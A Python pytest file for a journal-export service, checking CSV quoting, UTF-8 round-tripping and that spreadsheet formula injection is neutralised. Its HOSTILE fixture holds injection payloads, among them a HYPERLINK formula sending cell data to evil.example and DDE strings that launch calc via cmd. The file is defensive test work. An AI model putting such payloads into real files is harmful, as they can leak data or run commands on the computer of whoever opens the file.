"""CSV correctness: quoting by the csv module, formula injection neutralised, numbers kept,
no HTML escaping, UTF-8; every row parses back to the same number of columns."""

from __future__ import annotations

import csv
import io

import pytest

from journals.models import JournalTemplate
from journals.services import journal_export
from openchargeback.csvsafe import SafeWriter, neutralise

from .conftest import GOOD_TAGS, read_csv, read_dicts

HOSTILE = {
    "project_id": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "cost_center": 'Comma, "quoted" and\nnewline',
    "grant_number": "+cmd|' /C calc'!A0",
    "request_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "account_code": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-0.01", "-0.01"),
        ("12.50", "12.50"),
        ("a=b", "a=b"),
        ("", ""),
        ("Zoë & <Ørsted>", "Zoë & <Ørsted>"),
    ],
)
def test_neutralise(cell, shown):
    assert neutralise(cell) == shown


def test_writer_quotes_what_needs_quoting_and_reads_back():
    buffer = io.StringIO(newline="")
    writer = SafeWriter(buffer, delimiter=",", lineterminator="\r\n")
    cells = ["a,b", 'say "hi"', "two\nlines", "cr\ronly", "-5.25", "=1+2"]
    writer.writerow(cells)
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == ["a,b", 'say "hi"', "two\nlines", "cr\ronly", "-5.25", "'=1+2"]


def test_lf_files_quote_a_lone_carriage_return():
    buffer = io.StringIO(newline="")
    SafeWriter(buffer, delimiter=";", lineterminator="\n").writerow(["x\ry", "z"])
    assert buffer.getvalue() == '"x\ny";z\n'


@pytest.fixture
def hostile_month(load_rows):
    tags = {**GOOD_TAGS, **HOSTILE}
    load_rows(
        [
            {"Tags": tags, "BilledCost": "10.00", "ResourceName": "=cmd()"},
            {"Tags": tags, "BilledCost": "2.50", "ResourceId": "vm-2"},
            {"BilledCost": "1.25", "ResourceId": "plain"},
        ]
    )


def test_hostile_tag_values_come_out_quoted_and_neutralised(hostile_month, small_config):
    result = journal_export(period_key="2025-01", template="detail", config=small_config)
    path = result.files[0]["file"]

    rows = read_csv(path)
    assert len({len(r) for r in rows}) == 1  # every row has the header's column count
    assert len(rows) == 1 + 3
    by_resource = {r["Resource ID"]: r for r in read_dicts(path)}
    hostile = by_resource["vm-1"]
    assert hostile["Project"] == "'" + HOSTILE["project_id"]
    assert hostile["Cost Center"] == HOSTILE["cost_center"]  # quoted, not neutralised
    assert hostile["Grant"] == "'" + HOSTILE["grant_number"]
    assert hostile["Request"] == "'" + HOSTILE["request_id"]
    assert hostile["Account"] == "'" + HOSTILE["account_code"]
    assert hostile["Resource Name"] == "'=cmd()"
    assert by_resource["plain"]["Account"] == "54100"  # no tag: the source's account
    # No cell of the file starts a formula.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit()
    text = open(path, encoding="utf-8", newline="").read()
    assert '"Comma, ""quoted"" and\nnewline"' in text


def test_hostile_account_tag_in_the_gl(hostile_month, small_config):
    result = journal_export(period_key="2025-01", template="gl", config=small_config)

    rows = read_dicts(result.files[0]["file"])
    accounts = {r["Account"] for r in rows}
    assert "'" + HOSTILE["account_code"] in accounts
    assert "54100" in accounts
    assert result.debit_total == result.credit_total == {"USD": "13.75"}


def test_no_html_escaping(load_rows, small_config):
    load_rows(
        [
            {
                "Tags": {**GOOD_TAGS, "project_id": "R&D <lab> 'x' \"y\""},
                "ServiceName": "Storage & <Backup>",
            }
        ]
    )
    template = JournalTemplate.objects.create(
        name="escape",
        kind="detail",
        header_layout="p\ns\nboth",
        row_layout="{{ project }}\n{{ service_name }}\n{{ project }} / {{ service_name|lower }}",
    )
    result = journal_export(period_key="2025-01", template=template, config=small_config)
    (row,) = read_dicts(result.files[0]["file"])
    assert row["p"] == "R&D <lab> 'x' \"y\""
    assert row["s"] == "Storage & <Backup>"
    assert row["both"] == "R&D <lab> 'x' \"y\" / storage & <backup>"


def test_utf8_text_round_trips(load_rows, small_config):
    load_rows([{"Tags": {**GOOD_TAGS, "project_id": "Ørsted-Zoë-東京"}}])
    result = journal_export(period_key="2025-01", template="summary", config=small_config)
    (row,) = read_dicts(result.files[0]["file"])
    assert row["Project"] == "Ørsted-Zoë-東京"


def test_tab_delimited_lf_template(load_rows, small_config):
    load_rows([{"Tags": {**GOOD_TAGS, "cost_center": "a\tb"}, "ServiceName": "x;y"}])
    template = JournalTemplate.objects.create(
        name="tabs",
        kind="detail",
        header_layout="cc\nsvc\namount",
        row_layout="{{ cost_center }}\n{{ service_name }}\n{{ amount }}",
        delimiter="\t",
        line_ending="lf",
    )
    result = journal_export(period_key="2025-01", template=template, config=small_config)
    raw = open(result.files[0]["file"], "rb").read()
    assert raw == b'cc\tsvc\tamount\n"a\tb"\tx;y\t10.00\n'
